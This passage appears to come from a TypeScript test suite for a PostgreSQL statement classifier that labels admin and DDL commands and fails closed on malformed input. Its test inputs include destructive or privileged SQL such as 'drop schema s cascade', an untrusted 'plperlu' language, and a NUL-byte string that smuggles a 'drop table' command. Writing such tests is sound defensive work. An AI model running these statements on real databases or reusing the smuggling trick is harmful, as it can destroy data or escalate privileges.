    { sql: 'create extension dblink', features: ['server-admin(create extension)'], effect: 'ddl' },
    { sql: 'drop extension dblink', features: ['server-admin(drop extension)'] },
    { sql: 'create server s foreign data wrapper postgres_fdw', features: ['server-admin(create server)'] },
    { sql: 'create user mapping for current_user server s', features: ['server-admin(create user mapping)'] },
    {
      sql: 'import foreign schema public from server s into local',
      features: ['server-admin(import foreign schema)'],
    },
    { sql: 'create publication p for all tables', features: ['server-admin(create publication)'] },
    {
      sql: "create subscription s connection 'host=x' publication p",
      features: ['server-admin(create subscription)'],
    },
    {
      sql: 'create event trigger e on ddl_command_start execute function f()',
      features: ['server-admin(create event trigger)'],
    },
    // Without a handler the grammar turns CREATE LANGUAGE into CREATE EXTENSION.
    { sql: 'create language plperlu', features: ['server-admin(create extension)'] },
    { sql: 'create language pl handler h', features: ['server-admin(create language)'] },
    {
      sql: "create function f() returns int language sql as 'select 1'",
      features: ['non-table-ddl(create function)'],
      effect: 'ddl',
    },
    {
      sql: 'create procedure p() language sql as $$ delete from t $$',
      features: ['non-table-ddl(create procedure)'],
    },
    { sql: 'alter function f() security definer', features: ['non-table-ddl(alter function)'] },
    { sql: 'drop function f(int)', features: ['non-table-ddl(drop function)'], effect: 'ddl' },
    { sql: 'drop schema s cascade', features: ['non-table-ddl(drop schema)'] },
    { sql: "create type mood as enum ('sad', 'ok')", features: ['non-table-ddl(create type)'] },
    { sql: 'create type pair as (a int, b int)', features: ['non-table-ddl(create type)'] },
    { sql: 'alter type pair add attribute c int', features: ['non-table-ddl(alter type)'] },
    { sql: 'create domain posint as int check (value > 0)', features: ['non-table-ddl(create domain)'] },
    {
      sql: 'create aggregate a (int) (sfunc = int4pl, stype = int)',
      features: ['non-table-ddl(create aggregate)'],
    },
    {
      sql: 'create operator === (procedure = int4eq, leftarg = int, rightarg = int)',
      features: ['non-table-ddl(create operator)'],
    },
    { sql: 'create cast (text as int) with inout', features: ['non-table-ddl(create cast)'] },
    { sql: 'create schema s', features: ['non-table-ddl(create schema)'], effect: 'ddl' },
    {
      sql: 'create schema s create table t (a int) create view v as select * from u',
      features: ['non-table-ddl(create schema)'],
      accesses: ['ddl s.t', 'ddl public.t', 'ddl s.v', 'ddl public.v', 'select s.u', 'select public.u'],
    },
    {
      sql: 'create trigger tg before insert on t for each row execute function f()',
      features: ['non-table-ddl(create trigger)'],
      accesses: ['ddl public.t'],
    },
    { sql: 'drop trigger tg on s.t', features: ['non-table-ddl(drop trigger)'], accesses: ['ddl s.t'] },
    {
      sql: 'create rule r as on insert to t do instead nothing',
      features: ['non-table-ddl(create rule)'],
      accesses: ['ddl public.t'],
    },
    {
      sql: 'create policy p on t using (true)',
      features: ['non-table-ddl(create policy)'],
      accesses: ['ddl public.t'],
    },
    {
      sql: 'create statistics st on a, b from t',
      features: ['non-table-ddl(create statistics)'],
      accesses: ['ddl public.t'],
    },
    { sql: "comment on function f() is 'x'", features: ['non-table-ddl(comment on function)'] },
    {
      sql: "comment on trigger tg on t is 'x'",
      features: ['non-table-ddl(comment on trigger)'],
      accesses: ['ddl public.t'],
    },
    { sql: 'alter table t rename constraint c to d', accesses: ['ddl public.t'] },
    { sql: 'alter function f() set schema s', features: ['non-table-ddl(set schema of function)'] },
  ]);
});

describe('fail closed', () => {
  expectUnclassified([
    { sql: 'selec 1', reason: /^statement 1: syntax error at or near "selec" \(at character 1\)$/ },
    { sql: 'select 1; select (1', reason: /^statement 2: syntax error at end of input/ },
    { sql: "select 'abc", reason: /unterminated quoted string/ },
    { sql: 'select 1;\u0000 drop table x', reason: /NUL/ },
    { sql: 'select 1; select * from a.b.c', reason: /^statement 2 \(SelectStmt\): cross-database reference/ },
    {
      sql: "select * from orders o where o.id = 1; set role 'x'; drop table x.y.z",
      reason: /^statement 3 \(DropStmt\)/,
    },
  ]);

  it('never throws on nesting deeper than the walker can follow', () => {
    const deep = `select ${'('.repeat(3000)}1${')'.repeat(3000)}`;
    const result = analyzeSql(deep, ['public']);
    expect(typeof result.ok).toBe('boolean');
  });
});
